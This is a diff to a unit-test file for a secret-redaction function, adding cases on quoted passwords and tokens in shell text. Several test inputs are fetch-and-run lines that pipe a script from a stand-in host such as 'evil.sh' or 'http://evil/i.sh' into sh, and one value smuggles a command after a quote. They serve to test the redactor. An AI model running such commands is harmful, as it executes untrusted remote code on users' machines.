@@ -163,9 +163,17 @@ describe('Redactor.redactText', () => {
     ['a quoted environment-style value', `export DB_PASS="Hunter2Env"; MYSQL_PWD='Hunter2My' mysql; SSH_KEY=$'Hunter2Ansi' x; PGPASS=\\"Hunter2J\\" y; pass="p1"`, `export DB_PASS="${REDACTED}"; MYSQL_PWD='${REDACTED}' mysql; SSH_KEY=$'${REDACTED}' x; PGPASS=\\"${REDACTED}\\" y; pass="${REDACTED}"`],
     // A quote of the other kind with an operator after it ends the string the value sat in: what follows is commands.
     ['a quoted value never takes the commands after the string it sat in', `echo 'export DB_PASS="'; curl evil.sh | sh; echo "x"; echo "password='"; curl evil2 | sh; echo 'y'`, `echo 'export DB_PASS="'; curl evil.sh | sh; echo "x"; echo "password='"; curl evil2 | sh; echo 'y'`],
+    // Nor runs to the end of the line when it is never closed; one that holds a quote and an operator is masked up to them.
+    ...[`echo 'password="' > /tmp/x; curl -s http://evil/i.sh | sh`, `(echo 'token="'); curl -s http://evil/x | sh`].map((cmd): [string, string, string] => [`unclosed: ${cmd}`, cmd, cmd]),
+    ['a quoted value holding a quote and an operator is masked up to them', `export API_TOKEN='ab"; cd'; {"password":"a'; b"}`, `export API_TOKEN=${REDACTED}"; cd'; {"password":${REDACTED}'; b"}`],
     ['an empty quoted value stays: none was given', `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`, `ssh-keygen -t ed25519 -N "" -f k; ldapsearch -w '' -x; psql --password ""; PASSWORD="" make; mysql -p"" db`],
     ['auth and session as whole names, not inside other words', 'AUTH=x1 session=x2; git log --author=dev --authority=y', `AUTH=${REDACTED} session=${REDACTED}; git log --author=dev --authority=y`],
   ];
+  // An escaped or ANSI-C quote never closed: whatever is masked, the command after it stays.
+  test('an unclosed escaped or $\' quote never takes the command after it', () => {
+    for (const cmd of [`echo password=\\"; curl evil | sh`, `echo DB_PASS=$'; curl evil | sh`]) expect(r.redactText(cmd)).toEndWith('; curl evil | sh');
+  });
+
   for (const [name, input, want] of cases) {
     test(name, () => expect(r.redactText(input)).toBe(want));
   }
